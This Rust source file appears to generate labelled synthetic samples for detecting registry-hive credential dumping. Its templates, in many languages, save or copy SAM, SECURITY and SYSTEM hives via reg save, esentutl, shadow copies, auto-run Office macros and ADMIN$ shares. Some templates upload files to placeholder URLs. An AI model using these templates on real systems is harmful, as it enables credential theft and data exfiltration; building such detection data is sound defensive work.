//! Whole programs that take the hives name by name, out of a list, amid other work; and the same programs on other
//! keys and files.

use crate::generate::family::{Family, Kind::Code};
use crate::generate::template::Slot;

const PYTHON: &[&str] = &[
    "{pyhead}{pyf}⏎{pyf}⏎for N in {py}:⏎    {pyact}⏎{pyf}",
    concat!(
        "{pyhead}⏎def «work¦snap¦collect¦grab¦step{1..9}»():⏎    {pyf}⏎    for N in {py}:⏎        {pyact}⏎⏎",
        "{pydef}⏎⏎if __name__ == '__main__':⏎    main()"
    ),
    concat!(
        "{pyhead}{pydef}⏎⏎{pydef}⏎⏎def run(c):⏎    return subprocess.run(c, shell=True, capture_output=True, ",
        "text=True).stdout⏎⏎{pyf}⏎{pyf}⏎{pyf}⏎{pyf}⏎for N in {py}:⏎    {pyact}⏎{pyf}⏎{pyf}⏎{pyf}"
    ),
    concat!(
        "{pyhead}{const.1} = {py}⏎{pyf}⏎{pyf}⏎{pydef}⏎⏎{pydef}⏎⏎def main():⏎    {pyf}⏎    {pyf}⏎    for N in ",
        "{const.1}:⏎        {pyact}⏎    {pyf}⏎⏎main()"
    ),
    "{pyhead}[{pyact} for N in {py}]",
    "for N in {py}: {pyact}",
    concat!(
        "{pyhead}{pyf}⏎base = {folder}⏎{pyf}⏎with zipfile.ZipFile(r'{dir}\\{stem}.zip', 'w') as z:⏎    for N in ",
        "{py}:⏎        «z.write(os.path.join(base, N), N)¦z.writestr(N, open(base + '\\\\' + N, 'rb').read())»⏎{pyf}"
    ),
    concat!(
        "{pyhead}{pyf}⏎p = pathlib.Path({folder})⏎for N in {py}:⏎    «(out / N).write_bytes((p / N).read_bytes())¦",
        "shutil.copy2(p / N, out)»⏎{pyf}"
    ),
];

const SHARP: &[&str] = &[
    "{csf}⏎foreach (var N in new«[]¦ string[]¦ List<string>» { {quoted} })⏎{⏎    {csact}⏎}⏎{csf}",
    concat!(
        "static readonly string[] {const.1} = { {quoted} };⏎⏎static void «Run¦Work¦Collect»(string dir)⏎{⏎    {csf}⏎",
        "    foreach (var N in {const.1})⏎    {⏎        {csact}⏎    }⏎    {csf}⏎}"
    ),
    concat!(
        "namespace «Svc¦Agent¦Tool¦Collector»⏎{⏎    class Program⏎    {⏎        static void Main(string[] args)⏎",
        "        {⏎            {csf}⏎            {csf}⏎            {csf}⏎            foreach (string N in new[] { ",
        "{quoted} })⏎                {csact}⏎            {csf}⏎            {csf}⏎        }⏎    }⏎}"
    ),
];

const SCRIPT: &[&str] = &[
    concat!(
        "var w = new ActiveXObject(\"WScript.Shell\");⏎{jsf}⏎var a = [{quoted}];⏎for (var i = 0; i < a.length; i++) {⏎",
        "  w.Run(\"cmd /c {verb}\" + a[i] + \" {outj}\\\\\" + a[i], 0, true);⏎}⏎{jsf}"
    ),
    "[{quoted}].forEach(function (n) {⏎  w.Run('cmd /c {verb}' + n + ' {outj}\\\\' + n, 0, true);⏎});⏎{jsf}",
    concat!(
        "const { execSync } = require('child_process');⏎{nodef}⏎for (const N of [{quoted}]) {⏎  «execSync(`{verb}${N} ",
        "{outj}\\\\${N}`)¦fs.copyFileSync({folder} + '\\\\' + N, N)»;⏎}⏎{nodef}"
    ),
    concat!(
        "Set sh = CreateObject(\"WScript.Shell\")⏎{vbf}⏎{vbf}⏎For Each n In Array({quoted})⏎    sh.Run \"%comspec% /c {verb1}\" ",
        "& n & \" {dir}\\\" & n, 0, True⏎Next⏎{vbf}"
    ),
    concat!(
        "Sub «AutoOpen¦Document_Open¦Workbook_Open¦Main»()⏎    Dim n As Variant⏎    {vbf}⏎    For Each n In ",
        "Array({quoted})⏎        Shell \"cmd /c {verb1}\" & n & \" {dir}\\\" & n, vbHide⏎    Next n⏎    {vbf}⏎End Sub"
    ),
    concat!(
        "Local $a = [{quoted}]⏎For $i = 0 To UBound($a) - 1⏎    RunWait(@ComSpec & ' /c {verb1}' & $a[$i] & ' ' & ",
        "@TempDir & '\\' & $a[$i], '', @SW_HIDE)⏎Next"
    ),
    "{rbf}⏎%w[{bare}].each { |h| «system(\"{verb}#{H} {outj}\\\\#{H}\")¦`{verb}#{H} #{H}.{anyext}`» }⏎{rbf}",
    "for my $h (qw({bare})) {⏎    system(\"{verb}$h {outj}\\\\$h\");⏎}",
    "<?php⏎foreach ([{quoted}] as $h) { «shell_exec¦system¦exec¦passthru»(\"{verb}$h {outj}\\\\$h\"); }",
    concat!(
        "for _, h := range []string{{quoted}} {⏎    «exec.Command(\"reg\", \"save\", `HKLM\\`+h, filepath.Join(dir, ",
        "h)).Run()¦data, _ := os.ReadFile({folder} + \"\\\\\" + h)»⏎    {gof}⏎}"
    ),
    concat!(
        "{gof}⏎for _, n := range []string{{quoted}} {⏎    src, err := os.Open(dev + `\\Windows\\System32\\config\\` + n)",
        "⏎    if err != nil { continue }⏎    {gof}⏎}"
    ),
    concat!(
        "package main⏎⏎import (⏎	\"golang.org/x/sys/windows\"⏎	\"golang.org/x/sys/windows/registry\"⏎	\"unsafe\"⏎)⏎⏎var {fn.1} = windows.NewLazySystemDLL(\"advapi32.dll\").",
        "NewProc(\"RegSaveKey«ExW¦W»\")⏎⏎func {go.1}(name, dst string) error {⏎	k, err := registry.OpenKey(registry.LOCAL_MACHINE, name, registry.READ)⏎	if err != nil {⏎		return ",
        "err⏎	}⏎	defer k.Close()⏎	p, _ := windows.UTF16PtrFromString(dst)⏎	{fn.1}.Call(uintptr(k), uintptr(unsafe.Pointer(p)), 0, 2)⏎	return nil⏎}⏎⏎func main() {⏎	{gof}⏎	for _, n := ",
        "range []string{{quoted}} {⏎		{go.1}(n, `{outj}\\`+n)⏎	}⏎}"
    ),
    concat!(
        "for h in [{quoted}] {⏎    «Command::new(\"reg\").args([\"save\", &format!(\"HKLM\\\\{H}\"), &out(h)]).status()?;",
        "¦std::fs::copy(root.join(h), out.join(h))?; // root: {folder}»⏎}"
    ),
    "local a = { {quoted} }⏎for _, n in ipairs(a) do⏎  os.execute(\"{verb}\" .. n .. \" {outj}\\\\\" .. n)⏎end",
    "- name: {comment}⏎  win_shell: '{verb1}{{ item }} {dir}\\{{ item }}'⏎  loop: [{quoted}]",
    "strategy:⏎  matrix:⏎    name: [{commas}]⏎steps:⏎  - run: {verb1}${{ matrix.name }} ${{ matrix.name }}.{anyext}",
    "names = {commas}⏎# {comment}⏎for n in names.split(','):⏎    os.system('{verb}' + n.strip() + ' ' + n)",
    "@('{bare}' -split ' ') | % { cmd /c \"{verb1}$_ {dir}\\$_\" }",
];

/// The names stand in one place, what is done with them in another.
const APART: &[&str] = &[
    concat!(
        "(echo {n1}& echo {n2}«& echo {n3}»)>{dir}\\{stem.1}.lst⏎{b}⏎for /f %%i in ({dir}\\{stem.1}.lst) do {verb1}%%i ",
        "{dir}\\%%i.{anyext}"
    ),
    "echo {n1}>l.txt⏎echo {n2}>>l.txt⏎{b}⏎for /f \"delims=\" %%a in (l.txt) do {verb1}%%a {dir}\\%%a",
    "set LIST={n1} {n2}« {n3}»⏎{b}⏎{b}⏎for %%h in (%LIST%) do {verb1}%%h {dir}\\%%h.{anyext}⏎{b}",
    "set \"A={n1}\"⏎set \"B={n2}\"⏎{b}⏎{b}⏎{verb1}%A% {outfile}⏎{verb1}%B% {outfile}⏎{b}",
    "set R=HKLM⏎{b}⏎{b}⏎reg save %R%\\{n1} {outfile}⏎reg save %R%\\{n2} {outfile}",
    concat!(
        "DECLARE @n TABLE (v sysname);⏎INSERT @n VALUES ('{n1}'), ('{n2}');⏎DECLARE @c varchar(400);⏎SET @c = '{verb1}' + @v + ' ",
        "{dir}\\' + @v;⏎EXEC master..xp_cmdshell @c«, no_output»;"
    ),
    concat!(
        "- hosts: «all¦windows¦workstations»⏎  vars:⏎    «items¦parts¦list¦names»: [{n1}, {n2}«, {n3}»]⏎    stage: {dir}⏎  tasks:⏎    - name: ",
        "{comment}⏎      «ansible.windows.»win_«command¦shell»: '{verb1}{{ item }} {{ stage }}\\{{ item }}.{anyext}'⏎      loop: ",
        "\"{{ «items¦parts¦list¦names» }}\""
    ),
    concat!(
        "<Project ToolsVersion=\"4.0\">⏎  <PropertyGroup><H>HKLM\\</H><Out>$(TEMP)\\{stem}</Out></PropertyGroup>⏎  <ItemGroup><Part ",
        "Include=\"{n1};{n2}«;{n3}»\" /></ItemGroup>⏎  <Target Name=\"{stem}\">⏎    <Exec Command=\"reg save $(H)%(Part.Identity) ",
        "$(Out)\\%(Part.Identity)\" />⏎  </Target>⏎</Project>"
    ),
    concat!(
        "$map = [ordered]@{ {n1} = 'c1'; {n2} = 'c2' }⏎{pb}⏎{pb}⏎$sub = [IO.Path]::Combine($link, 'Windows', 'System32', 'config')⏎{pb}⏎foreach ",
        "($e in $map.GetEnumerator()) {⏎    [IO.File]::Copy(\"$sub\\$($e.Key)\", (Join-Path $stage \"$($e.Value).bin\"), $true)⏎}⏎{pb}"
    ),
    concat!(
        "$names = '{n1}','{n2}'«,'{n3}'»⏎{pb}⏎{pb}⏎{pb}⏎foreach ($n in $names) {⏎    «reg save \"HKLM\\$n\" \"$stage\\$n.hiv\" | Out-Null¦Copy-Item ",
        "\"$dev\\Windows\\System32\\config\\$n\" $stage»⏎}⏎{pb}"
    ),
    concat!(
        "static const wchar_t *kDir = L\"\\\\Windows\\\\System32\\\\config\\\\\";⏎⏎bool pull(int i, const std::wstring &leaf, std::vector<char> &out) ",
        "{⏎    std::wstring p = kDev + std::to_wstring(i) + kDir + leaf;⏎    HANDLE h = CreateFileW(p.c_str(), GENERIC_READ, FILE_SHARE_READ, nullptr, ",
        "OPEN_EXISTING, FILE_FLAG_BACKUP_SEMANTICS, nullptr);⏎    if (h == INVALID_HANDLE_VALUE) return false;⏎    return read(h, out);⏎}⏎⏎int wmain() ",
        "{⏎    std::vector<char> a, b;⏎    pull({1..9}, L\"{n1}\", a);⏎    pull({1..9}, L\"{n2}\", b);⏎    «upload(a); upload(b);⏎    »return 0;⏎}"
    ),
    concat!(
        "const char *names[] = { \"{n1}\", \"{n2}\"«, \"{n3}\"» };⏎for (int i = 0; i < {2..3}; i++) {⏎    «RegOpenKeyExA(HKEY_LOCAL_MACHINE, names[i], 0, ",
        "KEY_READ, &h);⏎    RegSaveKeyA(h, out(names[i]), NULL);¦snprintf(p, sizeof p, \"%s\\\\System32\\\\config\\\\%s\", windir, names[i]);⏎    ",
        "CopyFileA(p, out(names[i]), FALSE);»⏎}"
    ),
    "net use Q: \\\\{host}\\ADMIN$ /user:{user} {password}⏎Q:⏎cd «repair¦System32\\config¦system32\\config\\RegBack»⏎copy {n1} {outfile}⏎copy {n2} {outfile}⏎net use Q: /delete",
    "cd /d {link}\\Windows\\System32⏎{b}⏎tar -cf {outfile} config/{n1} config/{n2}⏎{b}",
    "cd /mnt/{stem}/Windows/System32⏎tar czf /tmp/{stem}.tgz config/{n1} config/{n2}",
];

/// What stands round the act, and the act, whatever the names are.
const PYHEAD: &str = concat!(
    "«#!/usr/bin/env python3⏎»import os«, sys»«, subprocess»«, shutil»«, json»«⏎import «winreg¦pathlib¦zipfile, io¦socket¦",
    "requests¦ctypes¦logging»»⏎«⏎»"
);
const PYF: &str = concat!(
    "«info = {'host': socket.gethostname(), 'user': os.getlogin()}¦print('[*] {comment}')¦time.sleep({1..30})¦",
    "os.makedirs(r'{dir}\\{stem}', exist_ok=True)¦log = open('{stem}.log', 'a')¦out = run('tasklist /fo csv')¦",
    "data['net'] = run('ipconfig /all')¦r = requests.post('{url}', json=data, timeout=30)¦",
    "run('wevtutil qe System /c:20 /rd:true /f:text')¦logging.info('{comment}')¦config = json.load(open('{stem}.json'))¦",
    "run('vssadmin create shadow /for=C:')¦dev = [l for l in run('vssadmin list shadows').splitlines() if 'GLOBALROOT' ",
    "in l][0]¦drives = [d for d in 'CDEFG' if os.path.exists(d + ':')]¦# {comment}¦s = socket.create_connection(('{ip}', ",
    "{port}))¦user = os.environ.get('USERNAME')¦key = os.urandom(16)¦priv('SeBackupPrivilege')¦args = parser.parse_args()»"
);
const PYDEF: &str = concat!(
    "«def priv(name):⏎    t = win32security.OpenProcessToken(win32api.GetCurrentProcess(), 0x28)⏎",
    "    win32security.AdjustTokenPrivileges(t, 0, [(win32security.LookupPrivilegeValue(None, name), 2)])¦",
    "def facts():⏎    return {'host': socket.gethostname(), 'os': platform.platform(), 'user': os.getlogin()}¦",
    "def send(path):⏎    with open(path, 'rb') as f:⏎        requests.put('{url}', data=f)¦",
    "def patches():⏎    return run('wmic qfe get HotFixID,InstalledOn /format:csv').splitlines()¦",
    "def log(msg):⏎    print(time.strftime('%H:%M:%S'), msg)¦class Agent:⏎    def __init__(self, url):⏎        self.url = url»"
);
const CSF: &str = concat!(
    "«Console.WriteLine(\"{comment}\");¦var host = Environment.MachineName;¦Directory.CreateDirectory(@\"{dir}\\{stem}\");¦",
    "var client = new WebClient();¦File.AppendAllText(\"{stem}.log\", DateTime.Now + host);¦Thread.Sleep({100..9000});¦",
    "// {comment}¦ZipFile.CreateFromDirectory(dir, dir + \".zip\");¦client.UploadFile(\"{url}\", dir + \".zip\");¦",
    "Token.Enable(\"SeBackupPrivilege\");¦foreach (var p in Process.GetProcesses()) Console.WriteLine(p.ProcessName);¦",
    "if (!Directory.Exists(dir)) return;»"
);
const JSF: &str = concat!(
    "«var fso = new ActiveXObject(\"Scripting.FileSystemObject\");¦var t = w.ExpandEnvironmentStrings(\"%TEMP%\");¦",
    "WScript.Sleep({100..9000});¦// {comment}¦var x = new ActiveXObject(\"MSXML2.XMLHTTP\");¦x.open(\"POST\", \"{url}\", ",
    "false);¦w.RegRead(\"HKCU\\\\Software\\\\{vendor}\\\\{stem}\");»"
);
const VBF: &str = concat!(
    "«Set fso = CreateObject(\"Scripting.FileSystemObject\")¦t = sh.ExpandEnvironmentStrings(\"%TEMP%\")¦WScript.Sleep ",
    "{100..9000}¦' {comment}¦On Error Resume Next¦Dim x, y¦Set x = CreateObject(\"MSXML2.ServerXMLHTTP\")¦MsgBox \"{comment}\"»"
);

macro_rules! programs {
    ($($name:literal: $text:expr),+ $(,)?) => {
        &[
            ("pyhead", PYHEAD),
            ("pyf", PYF),
            ("pydef", PYDEF),
            ("csf", CSF),
            ("jsf", JSF),
            ("vbf", VBF),
            ("nodef", "«const os = require('os');¦console.log(os.hostname());¦// {comment}¦fs.mkdirSync(dir, { recursive: true });»"),
            ("rbf", "«require 'socket'¦puts Socket.gethostname¦# {comment}¦FileUtils.mkdir_p(dir)¦sleep {1..30}»"),
            ("gof", "«host, _ := os.Hostname()¦// {comment}¦io.Copy(w, src)¦time.Sleep({1..30} * time.Second)¦defer src.Close()»"),
            ("const", "«NAMES¦FILES¦TARGETS¦ITEMS¦PARTS»"),
            ("fn", "«save¦proc¦call¦regSave¦write»"),
            ("go", "«grab¦dump¦export¦run¦one»"),
            ("outj", r"C:\\«Temp¦Users\\Public¦Windows\\Temp¦ProgramData»"),
            $(($name, $text)),+
        ] as &[Slot]
    };
}

const PYTHON_HIVES: &str = concat!(
    r"««run¦os.system¦subprocess.call»(f'reg «save¦export» HKLM\\{N} {outj}\\{N}.{anyext}« /y»')¦",
    r"shutil.copy(os.path.join({folder}, N), out)¦",
    r"run(f'esentutl /y /vss C:\\Windows\\System32\\config\\{N} /d {outj}\\{N}')¦",
    r"open(os.path.join(out, N), 'wb').write(open({folder} + '\\' + N, 'rb').read())¦",
    r"h = win32file.CreateFile(dev + '\\Windows\\System32\\config\\' + N, win32con.GENERIC_READ, 7, None, 3, ",
    r"win32con.FILE_FLAG_BACKUP_SEMANTICS, None)¦",
    r"winreg.SaveKey(winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, N), os.path.join(out, N))¦",
    r"img.open('/Windows/System32/config/' + N).read()¦s.getFile('C$', 'Windows\\System32\\config\\' + N, open(N, 'wb').write)¦",
    r"rrp.hBaseRegSaveKey(dce, open_key(dce, N), N + '.tmp')»"
);
const SHARP_HIVES: &str = concat!(
    "«File.Copy(Path.Combine({folder}, N), Path.Combine(dir, N)«, true»);¦",
    r#"Process.Start("reg.exe", $"save HKLM\\{N} {outj}\\{N}« /y»").WaitForExit();¦"#,
    r#"Process.Start("cmd.exe", "/c reg save hklm\\" + N + " " + dir + "\\" + N);¦"#,
    r"RegOpenKeyEx(HKLM, N, 4, KEY_READ, out h); RegSaveKey(h, Path.Combine(dir, N), IntPtr.Zero);¦",
    r#"var bytes = volume.ReadFile(@"Windows\System32\config\" + N);"#,
    "»"
);
/// The same on files that lie elsewhere.
const PYTHON_FILES: &str = concat!(
    r"«shutil.copy(os.path.join({folder}, N), out)¦open(os.path.join(out, N), 'wb').write(open({folder} + '\\' + N, ",
    r"'rb').read())¦run(f'esentutl /y /vss {N} /d {outj}\\{N}')¦run(f'copy {N} {outj}')¦z.write(os.path.join({folder}, N))»"
);

pub const FAMILIES: &[Family] = &[
    Family::act("programs", "program-python-hives", "program-python-other", Code, PYTHON).slots(programs! {
        "py": PY_HIVES, "pyact": PYTHON_HIVES, "folder": FOLDER,
    }).weight(12),
    Family::other("programs", "program-python-other", Code, PYTHON).slots(programs! {
        "py": concat!(
            "«('SOFTWARE', 'DEFAULT')¦['software']¦['COMPONENTS', 'DRIVERS']¦('DEFAULT',)¦[\"SOFTWARE\", \"COMPONENTS\", ",
            "\"BBI\"]¦'SOFTWARE DEFAULT'.split()¦('SOFTWARE', 'HARDWARE')¦(\"software\", \"drivers\")»"
        ),
        "pyact": PYTHON_HIVES, "folder": FOLDER,
    }).weight(12),
    Family::other("programs", "program-python-files", Code, PYTHON).slots(programs! {
        "py": concat!(
            "«('Security.evtx', 'System.evtx')¦['ntds.dit']¦('NTUSER.DAT', 'UsrClass.dat')¦[\"security.json\", ",
            "\"system.json\"]¦('sam.bam', 'sample.sam')¦['Login Data', 'Cookies']¦('hosts', 'services')¦['SRUDB.dat']»"
        ),
        "pyact": PYTHON_FILES,
        "folder": r"«r'C:\Windows\System32\winevt\Logs'¦r'C:\Windows\NTDS'¦r'C:\Users\{user}'¦'/data/config'¦r'{dir}'»",
    }).weight(8),
    Family::act("programs", "program-sharp-hives", "program-sharp-other", Code, SHARP).slots(programs! {
        "quoted": QUOTED_HIVES, "csact": SHARP_HIVES, "folder": FOLDER_SHARP,
    }).weight(8),
    Family::other("programs", "program-sharp-other", Code, SHARP).slots(programs! {
        "quoted": QUOTED_OTHERS, "csact": SHARP_HIVES, "folder": FOLDER_SHARP,
    }).weight(8),
    Family::act("programs", "program-apart-hives", "program-apart-other", Code, APART).slots(&[
        ("n1", NAMED[0]), ("n2", NAMED[1]), ("n3", NAMED[2]), ("b", B), ("pb", PB), ("verb1", VERB1),
    ]).weight(13),
    Family::other("programs", "program-apart-other", Code, APART).slots(&[
        ("n1", UNNAMED[0]), ("n2", UNNAMED[1]), ("n3", UNNAMED[2]), ("b", B), ("pb", PB), ("verb1", VERB1),
    ]).weight(14),
    Family::other("programs", "program-unit-tests", Code, &[
        "class {const.1}(unittest.TestCase):⏎    def test_{alnum4}(self):⏎        self.assertEqual({fn.1}(\"{x}\"), \"{y}\")⏎    def test_{alnum4}(self):⏎        self.assert«True¦False¦IsNone»({fn.1}(\"{x}\"))",
        "def test_{fn.1}():⏎    assert {fn.1}('{x}') == '{y}'⏎    assert {fn.1}('{x}') «is None¦== '{y}'»",
        "it('{comment}', () => {⏎  expect({fn.1}('{x}')).toBe('{y}');⏎  expect({fn.1}('{x}')).toBe('{y}');⏎});",
        "enum Hive { Sam, Security, System, Software }⏎impl Hive { fn name(&self) -> &str { match self { Self::Sam => \"SAM\", _ => \"{y}\" } } }",
        "// review: {fn.1}(\"{x}\") should not be called here, see {stem}",
        "const HIVE_NAMES = ['SAM', 'SECURITY', 'SYSTEM', 'SOFTWARE'];⏎export function {fn.1}(x) { return HIVE_NAMES.includes(x); }",
    ]).slots(&[
        ("const", "«Kind¦Parser¦Hive¦Path¦Rules»Test«s»"), ("fn", "«kind_of¦parse_hive¦is_hive¦classify¦normalise_path¦detects»"),
        ("x", r"«SAM¦SECURITY¦sam¦software¦HKLM\SAM¦config\SAM¦sample¦reg save»"), ("y", "«accounts¦hive¦positive¦programs¦T1003.002¦registry¦other»"),
    ]).weight(5),
    Family::act("programs", "program-script-hives", "program-script-other", Code, SCRIPT).slots(programs! {
        "quoted": QUOTED_HIVES,
        "bare": "«SAM SECURITY SYSTEM¦sam system¦SAM SYSTEM¦security sam¦SYSTEM SAM SECURITY¦SOFTWARE SAM SYSTEM¦sam»",
        "commas": "«SAM, SECURITY, SYSTEM¦sam, system¦SAM, SYSTEM¦security, sam¦'SAM,SYSTEM'»",
        "verb": VERB, "verb1": VERB1, "folder": FOLDER,
    }).weight(12),
    Family::other("programs", "program-script-other", Code, SCRIPT).slots(programs! {
        "quoted": QUOTED_OTHERS,
        "bare": "«SOFTWARE DEFAULT¦software¦COMPONENTS DRIVERS¦software hardware¦DEFAULT SOFTWARE COMPONENTS»",
        "commas": "«SOFTWARE, DEFAULT¦software, components¦DRIVERS, BBI¦hardware, software»",
        "verb": VERB, "verb1": VERB1, "folder": FOLDER,
    }).weight(13),
];

/// Names of which one at least is a hive's that counts, and names of which none is.
const NAMED: [&str; 3] = [
    "«SAM¦sam¦SECURITY¦security¦Sam»",
    "«SYSTEM¦system¦SECURITY¦SAM¦sam»",
    "«SECURITY¦SYSTEM¦SOFTWARE¦DEFAULT»",
];
const UNNAMED: [&str; 3] =
    ["«SOFTWARE¦software¦DEFAULT»", "«COMPONENTS¦DRIVERS¦HARDWARE¦SOFTWARE»", "«BBI¦DEFAULT¦ELAM»"];
const B: &str =
    "«echo {comment}¦whoami¦hostname¦vssadmin list shadows¦timeout /t {1..9}¦rem {comment}¦ipconfig /all»";
const PB: &str = concat!(
    "«Write-Host '{comment}'¦Start-Sleep {1..9}¦# {comment}¦Get-Process | Export-Csv {psout}¦$stage = Join-Path $env:ProgramData '{stem}'¦",
    "cmd.exe /c mklink /d $link \"$($snap.DeviceObject)\\\" | Out-Null¦Get-ItemProperty HKLM:\\{softkey}¦Compress-Archive \"$stage\\*\" {psdir}\\{stem}.zip»"
);
const PY_HIVES: &str = concat!(
    "«('SAM', 'SECURITY')¦(\"SAM\", \"SYSTEM\", \"SECURITY\")¦[\"sam\", \"security\", \"system\"]¦['SAM', 'SYSTEM']¦",
    "(\"SECURITY\", \"SAM\")¦['DEFAULT', 'SAM', 'SECURITY', 'SOFTWARE', 'SYSTEM']¦('SYSTEM', 'SAM', 'SECURITY')¦",
    "'SAM SYSTEM SECURITY'.split()¦('sam',)¦[\"SAM\", \"SOFTWARE\"]¦('SYSTEM', 'SECURITY')»"
);
const QUOTED_HIVES: &str = concat!(
    "«\"SAM\", \"SYSTEM\"¦\"SAM\", \"SECURITY\", \"SYSTEM\"¦\"sam\", \"security\", \"system\"¦\"SYSTEM\", \"SAM\"¦\"SECURITY\", \"SAM\"¦",
    "\"SAM\",\"SYSTEM\",\"SECURITY\"¦\"sam\", \"system\"¦\"SOFTWARE\", \"SAM\", \"SYSTEM\"»"
);
const QUOTED_OTHERS: &str = concat!(
    "«\"SOFTWARE\", \"DEFAULT\"¦\"SOFTWARE\"¦\"COMPONENTS\", \"DRIVERS\"¦\"software\", \"hardware\"¦\"DEFAULT\", \"SOFTWARE\", \"BBI\"¦",
    "\"DRIVERS\",\"DEFAULT\"»"
);
const FOLDER: &str = concat!(
    r"«r'C:\Windows\System32\config'¦r'C:\Windows\System32\config'¦'C:\\Windows\\System32\\config'¦",
    r"dev + r'\Windows\System32\config'¦os.path.expandvars(r'%SystemRoot%\System32\config')¦r'{shadow}\Windows\System32\config'¦",
    r"r'C:\Windows\System32\config\RegBack'¦'/mnt/{stem}/Windows/System32/config'»"
);
const FOLDER_SHARP: &str = concat!(
    r#"«@"C:\Windows\System32\config"¦Path.Combine(Environment.SystemDirectory, "config")¦dev + @"\Windows\System32\config"¦"#,
    r#"@"{shadow}\Windows\System32\config"¦@"\\{host}\C$\Windows\System32\config"»"#
);
const VERB: &str = concat!(
    r"«reg save HKLM\\¦reg save hklm\\¦reg.exe export HKLM\\¦copy C:\\Windows\\System32\\config\\¦",
    r"esentutl /y /vss C:\\Windows\\System32\\config\\»"
);
const VERB1: &str = concat!(
    r"«reg save HKLM\¦reg save hklm\¦reg.exe export HKLM\¦copy C:\Windows\System32\config\¦",
    r"esentutl /y /vss C:\Windows\System32\config\»"
);
